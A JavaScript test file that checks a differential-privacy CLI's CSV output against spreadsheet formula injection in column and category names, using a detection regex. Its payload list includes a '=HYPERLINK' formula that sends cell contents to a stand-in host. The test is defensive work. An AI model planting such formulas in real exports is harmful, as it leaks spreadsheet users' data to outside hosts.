// SPDX-License-Identifier: Apache-2.0

// Names that the caller gives, columns and categories, in what the commands write: a spreadsheet
// that opens it runs none of them.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { dpFtrl } from './support/consumer.mjs';
import { scratchFolder } from './support/scratch.mjs';

const scratch = scratchFolder('formulas');
const privacy = ['--epsilon', '1', '--delta', '1e-6', '--quiet'];
const names = ['=1+1', '+a', '-a', '@SUM(A1)', '=HYPERLINK("http://a.example?"&A1)'];
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

/** Runs a command on the table `input`, and returns the cells of its output. */
async function cellsOf(args, input) {
  const { code, stdout, stderr } = await dpFtrl(args, { input });
  assert.equal(code, 0, stderr);
  return parse(stdout, { relax_column_count: true }).flat();
}

const runs = (cell) => /^\s*[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d.]+(e[+-]?\d+)?$/i.test(cell);

for (const name of names) {
  const head = [name, 'x', 'when'].map(quoted).join(',');
  const input = `${head}\n${quoted(name)},1,2026-03-01\n${quoted(name)},0,2026-03-02\n`;
  const numbers = `${quoted(name)},y\n1,0\n0,1\n1,1\n`;
  const one = name.includes(',') ? [] : [name];
  const times = ['--time-column', 'when', '--bucket', 'day'];
  const by = ['--by', name, '--domain', one[0] ?? 'a'];
  const others = one.length === 0 ? ['--other'] : [];
  const commands = {
    release: [['release', ...privacy, '--clip', '1', '--columns', quoted(name)], numbers],
    'release, true values': [
      ['release', ...privacy, '--clip', '1', '--columns', quoted(name), '--show-nonprivate'],
      numbers,
    ],
    count: [['count', ...privacy, ...times, ...by, ...others], input],
    histogram: [['histogram', ...privacy, ...by, ...others], input],
    moments: [['moments', ...privacy, '--columns', `${quoted(name)}=0:1`], numbers],
    queries: [
      [
        'queries',
        ...privacy,
        '--workload',
        'identity',
        '--columns',
        quoted(name),
        '--domain',
        one[0] ?? 'a',
        ...others,
      ],
      input,
    ],
    choose: [
      [
        'choose',
        '--winner',
        '--epsilon',
        '1',
        '--quiet',
        '--columns',
        quoted(name),
        '--domain',
        `${one[0] ?? 'a'},b`,
      ],
      input,
    ],
  };
  test(`formulas: no cell of a command is run by a spreadsheet: ${name}`, async () => {
    for (const [what, [args, table]] of Object.entries(commands)) {
      const cells = await cellsOf(args, table);
      assert.deepEqual(cells.filter(runs), [], `${what}: ${args.join(' ')}`);
      const named = cells.filter((cell) => cell.startsWith(`'${name}`));
      assert.equal(named.length > 0, one.length > 0 || !what.match(/queries|choose/), what);
    }
  });
}

test('formulas: JSON keeps the names, because nothing runs them there', async () => {
  const [name] = names;
  const args = ['release', ...privacy, '--clip', '1', '--columns', quoted(name), '--json'];
  const { stdout, stderr } = await dpFtrl(args, { input: `${name}\n1\n` });
  assert.ok(stdout.includes(JSON.stringify(name)) && !stdout.includes(`'${name}`), stdout + stderr);
});

test('formulas: predictions of a label with such a name', async () => {
  const table = join(scratch, 'rows.csv');
  writeFileSync(table, `"=y",x\n${'1,1\n0,0\n'.repeat(50)}`);
  const learned = await dpFtrl([
    'learn',
    ...privacy,
    '--label',
    '=y',
    '--clip',
    '1',
    '--json',
    table,
  ]);
  assert.equal(learned.code, 0, learned.stderr);
  const model = join(scratch, 'model.json');
  writeFileSync(model, learned.stdout);
  const cells = await cellsOf(['predict', '--model', model, table]);
  assert.deepEqual(cells.filter(runs), []);
});
